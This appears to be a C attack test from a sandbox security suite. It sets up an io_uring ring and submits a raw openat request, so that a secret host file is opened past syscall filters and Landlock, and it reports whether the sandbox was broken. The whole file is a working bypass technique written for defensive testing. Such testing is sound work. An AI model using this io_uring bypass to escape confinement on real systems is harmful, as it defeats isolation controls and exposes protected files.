/*
 * A ring takes calls past every filter: one request opens a host file by its path.
 *
 * without: call:io_uring_setup,call:io_uring_enter,landlock
 */
#include "testsuites/security/attack.h"

#define OPERATION_OPENAT 18

struct offsets {
  uint32_t head, tail, mask, entries, flags, dropped, array, reserved;
  uint64_t user_address;
};

struct ring {
  uint32_t sq_entries, cq_entries, flags, sq_cpu, sq_idle, features, wq_fd, reserved[3];
  struct offsets sq, cq; /* the second's fields are others: overflow, cqes, flags */
};

static void attack(void) {
  struct ring ring = {0};
  int fd = (int)syscall(SYS_io_uring_setup, 4, &ring);
  unsigned char *queue, *entry;
  uint32_t *tail;
  int32_t result;

  must_fail("io_uring_enter", syscall(SYS_io_uring_enter, 0, 0, 0, 0, NULL, 0));
  must_fail("io_uring_register", syscall(SYS_io_uring_register, 0, 0, NULL, 0));
  if (fd < 0) {
    got("io_uring_setup: %s", strerror(errno));
    return;
  }
  broke("a ring was made");
  queue = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, fd, 0);
  entry = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, fd, 0x10000000);
  if (queue == MAP_FAILED || entry == MAP_FAILED)
    return;
  entry[0] = OPERATION_OPENAT;
  *(int32_t *)(void *)(entry + 4) = AT_FDCWD;
  *(uint64_t *)(void *)(entry + 16) = (uintptr_t)given("SECRET");
  tail = (uint32_t *)(void *)(queue + ring.sq.tail);
  *(uint32_t *)(void *)(queue + ring.sq.array) = 0;
  __atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
  syscall(SYS_io_uring_enter, fd, 1, 1, 1 /* GETEVENTS */, NULL, 0);
  /* offsets of the completion queue: head, tail, mask, entries, overflow, cqes */
  result = *(int32_t *)(void *)(queue + ((uint32_t *)&ring.cq)[5] + 8);
  got("the ring opened %d", result);
  if (result >= 0 && tells_secret(result))
    broke("a file of the host was read");
}
